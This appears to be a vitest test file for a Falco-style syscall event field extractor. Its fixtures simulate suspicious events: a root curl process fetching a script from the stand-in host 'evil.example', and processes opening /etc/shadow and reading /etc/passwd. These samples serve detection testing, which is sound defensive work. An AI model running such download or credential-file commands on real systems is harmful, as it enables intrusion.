import { describe, expect, it } from 'vitest';
import type { SyscallEvent } from '../../events/syscall-event.js';

/** Realistic syscall events shared by the syscall source tests (shapes as the sensor ships them). */

const containerId = '3ad7b26ded6d8e7b23da7d48fe889434573036c27ae5a74837233de441c3601e';

export function execveEvent(): SyscallEvent {
  return {
    source: 'syscall',
    num: 42,
    ts: '1470327477881781397',
    type: 'execve',
    dir: '<',
    res: 0,
    args: [
      ['res', '0'],
      ['exe', '/usr/bin/curl'],
      ['args', 'http://evil.example/x.sh'],
      ['tid', '4242'],
      ['pid', '4242'],
      ['ptid', '4200'],
      ['cwd', '/root/'],
      ['flags', ''],
      ['uid', '0'],
    ],
    cpu: 3,
    hostname: 'node-1',
    proc: {
      pid: 4242,
      tid: 4242,
      vpid: 57,
      ppid: 4200,
      name: 'curl',
      exe: 'curl',
      exepath: '/usr/bin/curl',
      args: ['-s', 'http://evil.example/x.sh'],
      cwd: '/root/',
      tty: 34816,
      sid: 4100,
      pgid: 4242,
      vpgid: 57,
      uid: 0,
      gid: 0,
      user: 'root',
      group: 'root',
      loginuid: 4294967295,
      env: ['HOME=/root', 'PATH=/usr/bin:/bin', 'TERM=xterm'],
      startTs: '1470327477000000000',
      capEffective: 'CAP_CHOWN CAP_SYS_ADMIN',
      capPermitted: 'CAP_CHOWN CAP_SYS_ADMIN',
      isExeUpperLayer: true,
      isExeFromMemfd: false,
      exeInoCtime: '1470327400000000000',
      exeInoMtime: '1470327300000000000',
      ancestors: [
        {
          pid: 4200,
          vpid: 50,
          name: 'bash',
          exe: '-bash',
          exepath: '/usr/bin/bash',
          args: [],
          startTs: '1470327000000000000',
        },
        { pid: 4100, vpid: 40, name: 'sshd', exe: 'sshd:', exepath: '/usr/sbin/sshd', args: ['root@pts/0'] },
        {
          pid: 1,
          vpid: 1,
          name: 'systemd',
          exe: '/sbin/init',
          exepath: '/usr/lib/systemd/systemd',
          args: ['--system'],
        },
      ],
    },
    container: {
      id: containerId,
      name: 'web-1',
      type: 'containerd',
      image: 'docker.io/library/nginx:1.25',
      imageRepository: 'docker.io/library/nginx',
      imageTag: '1.25',
      imageDigest: 'sha256:abc',
      privileged: false,
      startTs: '1470320000000000000',
      mounts: [
        {
          source: '/var/lib/kubelet/pods/x/volumes',
          dest: '/data',
          mode: 'rw',
          rdwr: true,
          propagation: 'rprivate',
        },
        {
          source: '/etc/kubernetes',
          dest: '/host/etc/kubernetes',
          mode: 'ro',
          rdwr: false,
          propagation: 'rprivate',
        },
      ],
    },
    k8s: {
      podName: 'web-1-abcde',
      podUid: 'uid-1',
      namespace: 'prod',
      labels: { app: 'web', tier: 'front' },
    },
  };
}

export function openatEvent(): SyscallEvent {
  return {
    ts: '1470327477881781397',
    type: 'openat',
    dir: '<',
    res: 5,
    args: [
      ['fd', '5(<f>/etc/shadow)'],
      ['dirfd', '-100(AT_FDCWD)'],
      ['name', 'shadow'],
      ['flags', 'O_RDWR|O_CREAT|O_CLOEXEC'],
      ['mode', '0755'],
      ['dev', '803'],
    ],
    proc: { pid: 10, name: 'vi', cwd: '/etc/', args: ['/etc/shadow'] },
    fd: {
      num: 5,
      type: 'file',
      name: '/etc/shadow',
      nameraw: 'shadow',
      openFlags: 'O_RDWR|O_CREAT|O_CLOEXEC',
      ino: '1234',
      dev: 0x800003,
    },
  };
}

export function connectEvent(): SyscallEvent {
  return {
    ts: '1470327477881781397',
    type: 'connect',
    dir: '<',
    res: -111,
    args: [
      ['res', '-111'],
      ['tuple', '172.40.111.222:40000->142.251.111.147:443'],
      ['fd', '3'],
    ],
    proc: { pid: 20, name: 'curl' },
    fd: {
      num: 3,
      type: 'ipv4',
      name: '172.40.111.222:40000->142.251.111.147:443',
      l4proto: 'tcp',
      cip: '172.40.111.222',
      cport: 40000,
      sip: '142.251.111.147',
      sport: 443,
      isClient: true,
      connected: true,
      sipName: 'example.com',
    },
  };
}
import { FieldError } from '../../fields/errors.js';
import type { Extracted, IpValue } from '../../fields/types.js';
import { formatIp, parseNet } from '../../fields/values.js';
import { compileCondition } from '../../condition/compiler.js';
import { parseCondition } from '../../condition/parser.js';
import { createSyscallSource } from './source.js';

const src = createSyscallSource();

function get(event: unknown, name: string, arg?: string): Extracted {
  return src.bind(name, arg).extract(event);
}

function ipText(v: Extracted): string | string[] | undefined {
  if (v === undefined) return undefined;
  if (Array.isArray(v)) return v.map((x) => formatIp(x as IpValue));
  return formatIp(v as IpValue);
}

describe('syscall source: evt.*', () => {
  const ev = execveEvent();

  it('reads the basic event fields with Falco types', () => {
    expect(get(ev, 'evt.num')).toBe(42);
    expect(get(ev, 'evt.type')).toBe('execve');
    expect(get(ev, 'syscall.type')).toBe('execve');
    expect(get(ev, 'evt.dir')).toBe('<');
    expect(get(ev, 'evt.cpu')).toBe(3);
    expect(get(ev, 'evt.hostname')).toBe('node-1');
    expect(get(ev, 'evt.source')).toBe('syscall');
    expect(get(ev, 'evt.category')).toBe('process');
    expect(src.field('evt.num')?.type).toBe('UINT64');
    expect(src.field('evt.rawres')?.type).toBe('INT64');
  });

  it('renders times: rawtime as bigint ns, iso8601 in UTC with nanoseconds', () => {
    expect(get(ev, 'evt.rawtime')).toBe(1470327477881781397n);
    expect(get(ev, 'evt.rawtime.s')).toBe(1470327477);
    expect(get(ev, 'evt.rawtime.ns')).toBe(881781397);
    expect(get(ev, 'evt.time.iso8601')).toBe('2016-08-04T16:17:57.881781397+0000');
    expect(get(ev, 'evt.time')).toMatch(/^\d{2}:17:57\.881781397$/);
    expect(get(ev, 'evt.datetime.s')).toMatch(/^2016-08-0\d \d{2}:\d{2}:57$/);
  });

  it('evt.res / evt.rawres / evt.failed follow the return value', () => {
    expect(get(ev, 'evt.res')).toBe('SUCCESS');
    expect(get(ev, 'evt.rawres')).toBe(0);
    expect(get(ev, 'evt.failed')).toBe(false);
    const failed = connectEvent();
    expect(get(failed, 'evt.res')).toBe('ECONNREFUSED');
    expect(get(failed, 'evt.rawres')).toBe(-111);
    expect(get(failed, 'evt.failed')).toBe(true);
    expect(get(failed, 'evt.count.error')).toBe(1);
    expect(get(failed, 'evt.count.error.net')).toBe(1);
    expect(get(failed, 'evt.count.error.file')).toBe(0);
  });

  it('evt.arg by name and position; empty parameters render as <NA>', () => {
    expect(get(ev, 'evt.arg', 'exe')).toBe('/usr/bin/curl');
    expect(get(ev, 'evt.arg', '1')).toBe('/usr/bin/curl');
    expect(get(ev, 'evt.arg', 'flags')).toBe('<NA>');
    expect(get(ev, 'evt.arg', '99')).toBeUndefined();
    // A real parameter name that this event does not carry: missing, not an error.
    expect(get(ev, 'evt.arg', 'oldpath')).toBeUndefined();
    expect(get(ev, 'evt.args')).toContain('exe=/usr/bin/curl args=http://evil.example/x.sh');
    expect(get(ev, 'evt.args')).toContain('flags=<NA>');
  });

  it('rejects unknown event arguments with Falco message and a stable code', () => {
    expect(() => src.bind('evt.arg', 'nosuchparam')).toThrow('unknown event argument nosuchparam');
    try {
      src.bind('evt.arg', 'nosuchparam');
    } catch (e) {
      expect(e).toBeInstanceOf(FieldError);
      expect((e as FieldError).code).toBe('UNKNOWN_EVENT_ARG');
    }
    expect(() => src.bind('evt.arg', undefined)).toThrow('filter evt.arg requires an argument');
    // Parameters the newer libs added are known too.
    for (const p of [
      'reaper_tid',
      'trusted_exepath',
      'exe_ino_ctime',
      'cap_inheritable',
      'pgid',
      'gid',
      'request',
      'domain',
      'cmd',
    ]) {
      expect(() => src.bind('evt.arg', p)).not.toThrow();
    }
  });

  it('evt.rawarg resolves to the parameter type and converts rendered values', () => {
    const res = src.bind('evt.rawarg', 'res');
    expect(res.def.type).toBe('ERRNO');
    expect(res.extract(connectEvent())).toBe(-111);
    const fd = src.bind('evt.rawarg', 'fd');
    expect(fd.def.type).toBe('FD');
    expect(fd.extract(openatEvent())).toBe(5);
    expect(src.bind('evt.rawarg', 'size').def.type).toBe('UINT32');
    expect(() => src.bind('evt.rawarg', 'tuple')).toThrow(/cannot be compared/);
    expect(() => src.bind('evt.rawarg', 'addr')).toThrow(/cannot be compared/);
    expect(() => src.bind('evt.rawarg', 'nope')).toThrow('unknown event argument nope');
  });

  it('open flags drive evt.is_open_*', () => {
    const ev2 = openatEvent();
    expect(get(ev2, 'evt.is_open_read')).toBe(true);
    expect(get(ev2, 'evt.is_open_write')).toBe(true);
    expect(get(ev2, 'evt.is_open_exec')).toBe(true);
    expect(get(ev2, 'evt.is_open_create')).toBe(true);
    // Not an open: missing, so `evt.is_open_read = false` is false too.
    expect(get(ev, 'evt.is_open_read')).toBeUndefined();
    const ro = openatEvent();
    ro.args = [
      ['fd', '5'],
      ['name', '/etc/hosts'],
      ['flags', 'O_RDONLY'],
      ['mode', '0'],
    ];
    expect(get(ro, 'evt.is_open_write')).toBe(false);
    expect(get(ro, 'evt.is_open_exec')).toBe(false);
  });

  it('tests whole flag names, whatever texts came before', () => {
    const withFlags = (flags: string) => {
      const e = openatEvent();
      e.args = [
        ['fd', '5'],
        ['name', '/etc/hosts'],
        ['flags', flags],
        ['mode', '0755'],
      ];
      return e;
    };
    const cases: [string, boolean, boolean, boolean, boolean][] = [
      // flags, is_open_read, is_open_write, is_open_create, is_open_exec (mode 0755)
      ['O_RDONLY|O_CLOEXEC', true, false, false, false],
      ['O_WRONLY|O_CREAT|O_TRUNC', false, true, true, true],
      ['O_RDWR', true, true, false, false],
      ['O_RDONLYX|O_WRONLY_|XO_CREAT', false, false, false, false],
      ['O_F_CREATED|O_WRONLY', false, true, true, false],
      ['O_CREAT_X|O_RDONLY', true, false, false, false],
      ['', false, false, false, false],
    ];
    // Twice over and back to back, so that a text's answer never comes from another text's.
    for (const [flags, read, write, create, exec] of [...cases, ...[...cases].reverse(), ...cases]) {
      const e = withFlags(flags);
      expect([
        flags,
        get(e, 'evt.is_open_read'),
        get(e, 'evt.is_open_write'),
        get(e, 'evt.is_open_create'),
      ]).toEqual([flags, read, write, create]);
      expect(get(e, 'evt.is_open_exec')).toBe(exec);
    }
  });

  it('resolves paths for evt.abspath and fs.path.*', () => {
    const o = openatEvent();
    expect(get(o, 'evt.abspath')).toBe('/etc/shadow');
    expect(get(o, 'fs.path.name')).toBe('/etc/shadow');
    expect(get(o, 'fs.path.nameraw')).toBe('shadow');
    const rename: SyscallEvent = {
      ts: '1',
      type: 'renameat2',
      dir: '<',
      res: 0,
      args: [
        ['res', '0'],
        ['olddirfd', '-100'],
        ['oldpath', 'a.txt'],
        ['newdirfd', '-100'],
        ['newpath', '/tmp/b.txt'],
        ['flags', '0'],
      ],
      proc: { pid: 1, name: 'mv', cwd: '/home/u/' },
    };
    expect(get(rename, 'fs.path.source')).toBe('/home/u/a.txt');
    expect(get(rename, 'fs.path.target')).toBe('/tmp/b.txt');
    expect(get(rename, 'fs.path.sourceraw')).toBe('a.txt');
    expect(get(rename, 'fs.path.name')).toBeUndefined();
  });

  it('evt.type.is and syscall.type on non-syscall events', () => {
    expect(get(ev, 'evt.type.is', 'execve')).toBe(1);
    expect(get(ev, 'evt.type.is', 'open')).toBe(0);
    const exit: SyscallEvent = { ts: '1', type: 'procexit', dir: '>', args: [], proc: { pid: 1, name: 'x' } };
    expect(get(exit, 'syscall.type')).toBeUndefined();
    expect(get(exit, 'evt.type')).toBe('procexit');
  });
});

describe('syscall source: I/O byte counts and unreported fields', () => {
  const read: SyscallEvent = {
    ts: '1',
    type: 'read',
    dir: '<',
    res: 512,
    args: [
      ['res', '512'],
      ['data', 'root:x:0:0'],
    ],
    proc: { pid: 1, name: 'cat' },
    fd: { num: 3, type: 'file', name: '/etc/passwd' },
  };

  it('splits evt.buflen by direction and fd kind', () => {
    expect(get(read, 'evt.buflen')).toBe(512);
    expect(get(read, 'evt.buflen.in')).toBe(512);
    expect(get(read, 'evt.buflen.out')).toBeUndefined();
    expect(get(read, 'evt.buflen.file.in')).toBe(512);
    expect(get(read, 'evt.buflen.net')).toBeUndefined();
    expect(get(read, 'evt.is_io_read')).toBe(true);
    expect(get(read, 'evt.io_dir')).toBe('r');
    expect(get(read, 'evt.category')).toBe('file');
    expect(get({ ...read, fd: { num: 3, type: 'pipe' } }, 'evt.category')).toBe('ipc');
    expect(get(connectEvent(), 'evt.category')).toBe('net');
    expect(get(read, 'evt.buffer')).toEqual(
      Uint8Array.from(Array.from('root:x:0:0', (c) => c.charCodeAt(0))),
    );
  });

  it('registers Falco fields the sensor does not report, always missing', () => {
    for (const name of ['proc.vmrss', 'fd.sproto', 'proc.stdin.type', 'thread.pfmajor']) {
      expect(get(read, name), name).toBeUndefined();
    }
  });
});

describe('syscall source: proc.* / thread.* / user.* / group.*', () => {
  const ev = execveEvent();

  it('reads the process', () => {
    expect(get(ev, 'proc.name')).toBe('curl');
    expect(get(ev, 'proc.pid')).toBe(4242);
    expect(get(ev, 'proc.ppid')).toBe(4200);
    expect(get(ev, 'proc.vpid')).toBe(57);
    expect(get(ev, 'proc.exe')).toBe('curl');
    expect(get(ev, 'proc.exepath')).toBe('/usr/bin/curl');
    expect(get(ev, 'proc.args')).toBe('-s http://evil.example/x.sh');
    expect(get(ev, 'proc.args', '1')).toBe('http://evil.example/x.sh');
    expect(get(ev, 'proc.args', '5')).toBeUndefined();
    expect(get(ev, 'proc.cmdline')).toBe('curl -s http://evil.example/x.sh');
    expect(get(ev, 'proc.exeline')).toBe('curl -s http://evil.example/x.sh');
    expect(get(ev, 'proc.cmdnargs')).toBe(2);
    expect(get(ev, 'proc.cwd')).toBe('/root/');
    expect(get(ev, 'proc.tty')).toBe(34816);
    expect(get(ev, 'proc.env')).toBe('HOME=/root PATH=/usr/bin:/bin TERM=xterm');
    expect(get(ev, 'proc.env', 'PATH')).toBe('/usr/bin:/bin');
    expect(get(ev, 'proc.env', 'NOPE')).toBeUndefined();
    expect(get(ev, 'proc.is_exe_upper_layer')).toBe(true);
    expect(get(ev, 'proc.is_exe_from_memfd')).toBe(false);
    expect(get(ev, 'proc.is_exe_writable')).toBeUndefined();
  });

  it('reads parent and session/group leaders from the ancestry', () => {
    expect(get(ev, 'proc.pname')).toBe('bash');
    expect(get(ev, 'proc.pexe')).toBe('-bash');
    expect(get(ev, 'proc.pexepath')).toBe('/usr/bin/bash');
    expect(get(ev, 'proc.pcmdline')).toBe('bash');
    expect(get(ev, 'proc.sname')).toBe('sshd');
    expect(get(ev, 'proc.is_vpgid_leader')).toBe(true);
    expect(get(ev, 'proc.vpgid.name')).toBe('curl');
    expect(get(ev, 'proc.loginshellid')).toBe(4200);
  });

  it('indexed ancestor fields select one level; 0 is the process itself', () => {
    expect(get(ev, 'proc.aname', '0')).toBe('curl');
    expect(get(ev, 'proc.aname', '1')).toBe('bash');
    expect(get(ev, 'proc.aname', '2')).toBe('sshd');
    expect(get(ev, 'proc.aname', '9')).toBeUndefined();
    expect(get(ev, 'proc.apid', '3')).toBe(1);
    expect(get(ev, 'proc.aexepath', '2')).toBe('/usr/sbin/sshd');
    expect(get(ev, 'proc.acmdline', '2')).toBe('sshd root@pts/0');
    expect(src.bind('proc.aname', '2').mode).toBe('scalar');
  });

  it('unindexed ancestor fields give every ancestor from the parent up (any-ancestor mode)', () => {
    const b = src.bind('proc.aname', undefined);
    expect(b.mode).toBe('any-ancestor');
    expect(b.extract(ev)).toEqual(['bash', 'sshd', 'systemd']);
    expect(b.def.noTransformer).toBe(true);
    expect(get({ ...ev, proc: { pid: 1, name: 'init' } }, 'proc.aname')).toBeUndefined();
  });

  it('rejects non-numeric ancestor indexes', () => {
    expect(() => src.bind('proc.aname', 'x')).toThrow(FieldError);
    expect(() => src.bind('proc.aname', '-1')).toThrow(/not a valid index/);
  });

  it('computes durations and times', () => {
    expect(get(ev, 'proc.duration')).toBe(881781397);
    expect(get(ev, 'proc.pid.ts')).toBe(1470327477000000000n);
    expect(get(ev, 'proc.ppid.duration')).toBe(477881781397);
    expect(get(ev, 'proc.exe_ino.ctime')).toBe(1470327400000000000n);
    expect(get(ev, 'proc.exe_ino.ctime_duration_proc_start')).toBe(77000000000);
  });

  it('users, groups and capabilities', () => {
    expect(get(ev, 'user.uid')).toBe(0);
    expect(get(ev, 'user.name')).toBe('root');
    expect(get(ev, 'user.loginuid')).toBe(-1);
    expect(get(ev, 'group.gid')).toBe(0);
    expect(get(ev, 'group.name')).toBe('root');
    expect(get(ev, 'thread.tid')).toBe(4242);
    expect(get(ev, 'thread.cap_effective')).toBe('CAP_CHOWN CAP_SYS_ADMIN');
    expect(get(ev, 'thread.cap_inheritable')).toBeUndefined();
    expect(src.field('user.loginuid')?.type).toBe('INT64');
    expect(src.field('user.uid')?.type).toBe('UINT32');
  });
});

describe('syscall source: fd.*', () => {
  it('file descriptors', () => {
    const ev = openatEvent();
    expect(get(ev, 'fd.num')).toBe(5);
    expect(get(ev, 'fd.type')).toBe('file');
    expect(get(ev, 'fd.typechar')).toBe('f');
    expect(get(ev, 'fd.name')).toBe('/etc/shadow');
    expect(get(ev, 'fd.nameraw')).toBe('shadow');
    expect(get(ev, 'fd.directory')).toBe('/etc');
    expect(get(ev, 'fd.filename')).toBe('shadow');
    expect(get(ev, 'fd.ino')).toBe(1234);
    expect(get(ev, 'fd.dev.major')).toBe(8);
    expect(get(ev, 'fd.dev.minor')).toBe(3);
    expect(get(ev, 'fd.types')).toEqual(['file']);
    expect(get(ev, 'fd.containername')).toBe('host:/etc/shadow');
    // Socket fields are missing on files.
    expect(get(ev, 'fd.sip')).toBeUndefined();
    expect(get(ev, 'fd.ip')).toBeUndefined();
    expect(get(ev, 'fd.sockfamily')).toBeUndefined();
  });

  it('client sockets: endpoints, local/remote and either-endpoint fields', () => {
    const ev = connectEvent();
    expect(get(ev, 'fd.typechar')).toBe('4');
    expect(get(ev, 'fd.sockfamily')).toBe('ip');
    expect(get(ev, 'fd.l4proto')).toBe('tcp');
    expect(ipText(get(ev, 'fd.cip'))).toBe('172.40.111.222');
    expect(ipText(get(ev, 'fd.sip'))).toBe('142.251.111.147');
    expect(ipText(get(ev, 'fd.lip'))).toBe('172.40.111.222');
    expect(ipText(get(ev, 'fd.rip'))).toBe('142.251.111.147');
    expect(get(ev, 'fd.sport')).toBe(443);
    expect(get(ev, 'fd.lport')).toBe(40000);
    expect(get(ev, 'fd.rport')).toBe(443);
    expect(get(ev, 'fd.is_server')).toBe(false);
    expect(get(ev, 'fd.sip.name')).toBe('example.com');
    expect(get(ev, 'fd.rip.name')).toBe('example.com');
    expect(get(ev, 'fd.connected')).toBe(true);
    const ip = src.bind('fd.ip', undefined);
    expect(ip.mode).toBe('either-endpoint');
    expect(ip.def.filterOnly).toBe(true);
    expect(ipText(ip.extract(ev))).toEqual(['172.40.111.222', '142.251.111.147']);
    expect(get(ev, 'fd.port')).toEqual([40000, 443]);
    expect(src.bind('fd.net', undefined).mode).toBe('either-endpoint');
    expect(src.field('fd.snet')?.type).toBe('IPNET');
  });

  it('server sockets swap local and remote', () => {
    const ev = connectEvent();
    ev.type = 'accept4';
    (ev.fd as NonNullable<SyscallEvent['fd']>).isClient = false;
    expect(ipText(get(ev, 'fd.lip'))).toBe('142.251.111.147');
    expect(get(ev, 'fd.rport')).toBe(40000);
    expect(get(ev, 'fd.is_server')).toBe(true);
  });

  it('listening sockets give their single endpoint to fd.ip', () => {
    const ev: SyscallEvent = {
      ts: '1',
      type: 'listen',
      dir: '<',
      res: 0,
      args: [],
      proc: { pid: 1, name: 'nginx' },
      fd: { num: 6, type: 'ipv6', sip: '::1', sport: 8080, l4proto: 'tcp' },
    };
    expect(ipText(get(ev, 'fd.ip'))).toEqual(['::1']);
    expect(get(ev, 'fd.port')).toEqual([8080]);
  });
});

describe('syscall source: container.* / k8s.*', () => {
  const ev = execveEvent();

  it('reads container metadata', () => {
    expect(get(ev, 'container.id')).toBe('3ad7b26ded6d');
    expect(get(ev, 'container.full_id')).toHaveLength(64);
    expect(get(ev, 'container.name')).toBe('web-1');
    expect(get(ev, 'container.image')).toBe('docker.io/library/nginx:1.25');
    expect(get(ev, 'container.image.repository')).toBe('docker.io/library/nginx');
    expect(get(ev, 'container.image.tag')).toBe('1.25');
    expect(get(ev, 'container.type')).toBe('containerd');
    expect(get(ev, 'container.privileged')).toBe(false);
    expect(get(ev, 'container.start_ts')).toBe(1470320000000000000n);
    expect(get(ev, 'container.mounts')).toBe(
      '/var/lib/kubelet/pods/x/volumes:/data:rw:true:rprivate /etc/kubernetes:/host/etc/kubernetes:ro:false:rprivate',
    );
  });

  it('selects mounts by index or (glob) path; no match is the string none', () => {
    expect(get(ev, 'container.mount.dest', '/etc/kubernetes')).toBe('/host/etc/kubernetes');
    expect(get(ev, 'container.mount.dest', '/etc*')).toBe('/host/etc/kubernetes');
    expect(get(ev, 'container.mount.dest', '/proc*')).toBe('none');
    expect(get(ev, 'container.mount.source', '/data')).toBe('/var/lib/kubelet/pods/x/volumes');
    expect(get(ev, 'container.mount', '0')).toBe('/var/lib/kubelet/pods/x/volumes:/data:rw:true:rprivate');
    expect(get(ev, 'container.mount.rdwr', '1')).toBe('false');
  });

  it("host processes: container.id is the real string 'host', the rest missing", () => {
    const host = openatEvent();
    expect(get(host, 'container.id')).toBe('host');
    expect(get(host, 'container.name')).toBe('host');
    expect(get(host, 'container.type')).toBe('host');
    expect(get(host, 'container.image.repository')).toBeUndefined();
    expect(get(host, 'container.privileged')).toBeUndefined();
    expect(get(host, 'container.mount.dest', '/')).toBeUndefined();
    expect(get(host, 'k8s.ns.name')).toBeUndefined();
  });

  it('reads pod metadata', () => {
    expect(get(ev, 'k8s.pod.name')).toBe('web-1-abcde');
    expect(get(ev, 'k8s.ns.name')).toBe('prod');
    expect(get(ev, 'k8s.pod.uid')).toBe('uid-1');
    expect(get(ev, 'k8s.pod.label', 'app')).toBe('web');
    expect(get(ev, 'k8s.pod.label', 'nope')).toBeUndefined();
    expect(src.resolveField?.('k8s.pod.label.app')).toEqual({ name: 'k8s.pod.label', arg: 'app' });
    expect(get(ev, 'k8s.pod.labels')).toBe('(app:web,tier:front)');
  });
});

describe('syscall source: flat maps', () => {
  it('reads exact keys, with argument text, converting to the field type', () => {
    const flat = {
      'evt.type': 'execve',
      'proc.name': 'bash',
      'proc.aname[2]': 'sshd',
      'proc.pid': '1234',
      'evt.rawtime': '1470327477881781397',
      'evt.arg.flags': 'O_RDONLY',
      'fd.sip': '10.0.0.1',
      'fd.snet': '10.0.0.0/8',
      'container.privileged': 'true',
      'fd.types': 'file',
    };
    expect(get(flat, 'evt.type')).toBe('execve');
    expect(get(flat, 'proc.aname', '2')).toBe('sshd');
    expect(get(flat, 'proc.aname', '3')).toBeUndefined();
    expect(get(flat, 'proc.pid')).toBe(1234);
    expect(get(flat, 'evt.rawtime')).toBe(1470327477881781397n);
    expect(get(flat, 'evt.arg', 'flags')).toBe('O_RDONLY');
    expect(ipText(get(flat, 'fd.sip'))).toBe('10.0.0.1');
    expect(get(flat, 'fd.snet')).toEqual(parseNet('10.0.0.0/8'));
    expect(get(flat, 'container.privileged')).toBe(true);
    expect(get(flat, 'fd.types')).toEqual(['file']);
    expect(src.eventType?.(flat)).toBe('execve');
  });

  it('derives fd.net/fd.ip/fd.port and the side networks from the endpoints, as libsinsp does', () => {
    const flat = {
      'evt.type': 'connect',
      'fd.cip': '172.16.0.5',
      'fd.sip': '10.1.2.3',
      'fd.cport': 40000,
      'fd.sport': 443,
    };
    const net = (text: string) => parseNet(text);
    const compileFlat = (cond: string) => {
      const { filter } = compileCondition(parseCondition(cond), src);
      return (e: unknown) => filter(e);
    };
    const inNet = (field: string, cidr: string) => compileFlat(`${field} in (${cidr})`)(flat);
    expect(inNet('fd.net', '10.0.0.0/8')).toBe(true);
    expect(inNet('fd.net', '172.16.0.0/12')).toBe(true);
    expect(inNet('fd.net', '192.168.0.0/16')).toBe(false);
    expect(inNet('fd.snet', '10.0.0.0/8')).toBe(true);
    expect(inNet('fd.cnet', '10.0.0.0/8')).toBe(false);
    expect(compileFlat('fd.ip = 10.1.2.3')(flat)).toBe(true);
    expect(compileFlat('fd.port = 443')(flat)).toBe(true);
    expect(compileFlat('fd.port = 22')(flat)).toBe(false);
    // Its own key still wins when a flat event carries one.
    expect(get({ ...flat, 'fd.snet': '192.168.0.0/16' }, 'fd.snet')).toEqual(net('192.168.0.0/16'));
  });

  it('absent keys and nulls are missing; invalid values are missing', () => {
    expect(get({ 'proc.name': 'x' }, 'container.id')).toBeUndefined();
    expect(get({ 'proc.name': null }, 'proc.name')).toBeUndefined();
    expect(get({ 'proc.pid': 'abc' }, 'proc.pid')).toBeUndefined();
    expect(get({ 'fd.sip': 'not-an-ip' }, 'fd.sip')).toBeUndefined();
  });

  it('unindexed ancestor fields read an array or the indexed keys from 1 upward', () => {
    expect(get({ 'proc.aname': ['bash', 'init'] }, 'proc.aname')).toEqual(['bash', 'init']);
    expect(
      get({ 'proc.aname[0]': 'me', 'proc.aname[1]': 'bash', 'proc.aname[2]': 'init' }, 'proc.aname'),
    ).toEqual(['bash', 'init']);
  });

  it('either-endpoint fields accept arrays of endpoints', () => {
    expect(ipText(get({ 'fd.ip': ['1.2.3.4', '::1'] }, 'fd.ip'))).toEqual(['1.2.3.4', '::1']);
    expect(get({ 'fd.port': 443 }, 'fd.port')).toEqual([443]);
  });

  it('non-objects are missing for every field', () => {
    expect(get(null, 'proc.name')).toBeUndefined();
    expect(get('execve', 'evt.type')).toBeUndefined();
  });
});

describe('syscall source: registry metadata', () => {
  it('resolves dotted references to field + argument', () => {
    expect(src.resolveField?.('evt.arg.flags')).toEqual({ name: 'evt.arg', arg: 'flags' });
    expect(src.resolveField?.('evt.rawarg.res')).toEqual({ name: 'evt.rawarg', arg: 'res' });
    expect(src.resolveField?.('proc.name')).toEqual({ name: 'proc.name', arg: undefined });
    expect(src.resolveField?.('proc.nobody')).toBeUndefined();
  });

  it('rejects unknown fields and stray arguments', () => {
    expect(() => src.bind('proc.nobody', undefined)).toThrow(
      'filter_check called with nonexistent field proc.nobody',
    );
    expect(() => src.bind('proc.name', '1')).toThrow(/does not support arguments/);
  });

  it('covers every field the upstream rules use, with the catalogue types', () => {
    const catalogue: Record<string, string> = {
      'evt.arg': 'CHARBUF',
      'evt.args': 'CHARBUF',
      'evt.buffer': 'BYTEBUF',
      'evt.is_open_exec': 'BOOL',
      'evt.is_open_read': 'BOOL',
      'evt.is_open_write': 'BOOL',
      'evt.num': 'UINT64',
      'evt.rawres': 'INT64',
      'evt.res': 'CHARBUF',
      'evt.type': 'CHARBUF',
      'proc.aexe': 'CHARBUF',
      'proc.aexepath': 'CHARBUF',
      'proc.aname': 'CHARBUF',
      'proc.args': 'CHARBUF',
      'proc.cmdline': 'CHARBUF',
      'proc.cwd': 'CHARBUF',
      'proc.duration': 'RELTIME',
      'proc.env': 'CHARBUF',
      'proc.exe': 'CHARBUF',
      'proc.exe_ino.ctime': 'ABSTIME',
      'proc.exe_ino.ctime_duration_proc_start': 'ABSTIME',
      'proc.exe_ino.mtime': 'ABSTIME',
      'proc.exepath': 'CHARBUF',
      'proc.is_exe_from_memfd': 'BOOL',
      'proc.is_exe_upper_layer': 'BOOL',
      'proc.is_vpgid_leader': 'BOOL',
      'proc.name': 'CHARBUF',
      'proc.pcmdline': 'CHARBUF',
      'proc.pexe': 'CHARBUF',
      'proc.pexepath': 'CHARBUF',
      'proc.pname': 'CHARBUF',
      'proc.sname': 'CHARBUF',
      'proc.tty': 'UINT32',
      'proc.vpid': 'INT64',
      'thread.cap_effective': 'CHARBUF',
      'thread.cap_permitted': 'CHARBUF',
      'group.gid': 'UINT32',
      'group.name': 'CHARBUF',
      'user.loginname': 'CHARBUF',
      'user.loginuid': 'INT64',
      'user.name': 'CHARBUF',
      'user.uid': 'UINT32',
      'fd.cip': 'IPADDR',
      'fd.cip.name': 'CHARBUF',
      'fd.cnet': 'IPNET',
      'fd.connected': 'BOOL',
      'fd.directory': 'CHARBUF',
      'fd.filename': 'CHARBUF',
      'fd.ip': 'IPADDR',
      'fd.l4proto': 'CHARBUF',
      'fd.lip.name': 'CHARBUF',
      'fd.lport': 'PORT',
      'fd.name': 'CHARBUF',
      'fd.name_changed': 'BOOL',
      'fd.nameraw': 'CHARBUF',
      'fd.net': 'IPNET',
      'fd.num': 'INT64',
      'fd.port': 'PORT',
      'fd.rip': 'IPADDR',
      'fd.rip.name': 'CHARBUF',
      'fd.rnet': 'IPNET',
      'fd.rport': 'PORT',
      'fd.sip': 'IPADDR',
      'fd.sip.name': 'CHARBUF',
      'fd.snet': 'IPNET',
      'fd.sockfamily': 'CHARBUF',
      'fd.sport': 'PORT',
      'fd.type': 'CHARBUF',
      'fd.typechar': 'CHARBUF',
      'container.id': 'CHARBUF',
      'container.image.repository': 'CHARBUF',
      'container.mount.dest': 'CHARBUF',
      'container.mounts': 'CHARBUF',
      'container.privileged': 'BOOL',
      'container.start_ts': 'ABSTIME',
      'k8s.ns.name': 'CHARBUF',
      'k8s.pod.name': 'CHARBUF',
    };
    for (const [name, type] of Object.entries(catalogue)) {
      expect(src.field(name)?.type, name).toBe(type);
    }
    // Referenced by falco_rules.yaml without being in the §5 table.
    for (const name of [
      'proc.vpgid.name',
      'proc.vpgid.exe',
      'proc.ppid.duration',
      'fd.types',
      'evt.hostname',
      'syscall.type',
    ]) {
      expect(src.field(name), name).toBeDefined();
    }
  });
});
